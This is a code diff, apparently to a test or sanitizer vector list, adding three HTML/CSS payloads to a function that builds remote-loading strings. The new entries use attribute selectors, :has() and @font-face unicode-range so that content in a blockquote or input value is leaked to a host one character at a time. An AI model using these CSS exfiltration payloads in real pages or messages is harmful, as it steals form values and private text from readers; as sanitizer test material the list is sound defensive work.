@@ -246,6 +246,10 @@ export function remoteVectors(host: string): readonly string[] {
     `<xml src="${url()}"></xml><?xml-stylesheet href="${url()}"?>`,
     `<div style="behavior:url(${url()});-moz-binding:url(${url()})">x</div>`,
     `<img src="blob:${url()}">`,
+    // What a quoted answer or a form holds, told letter by letter.
+    `<style>[title^=a]{background:url(${url()})}[title*="egr"]{list-style:url(${url()})}</style><blockquote title="segreto">x</blockquote>`,
+    `<style>input[value^=s]{background:url(${url()})}p:has(>[data-x^=s]){--u:url(${url()});background:var(--u)}</style><p><span data-x=s>x</span><input value=s></p>`,
+    `<style>@font-face{font-family:f;src:url(${url()});unicode-range:U+73}blockquote{font-family:f}</style><blockquote>s</blockquote>`,
     `<speculationrules>{"prefetch":[{"urls":["${url()}"]}]}</speculationrules><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url()}"]}]}</script>`,
   ];
 }
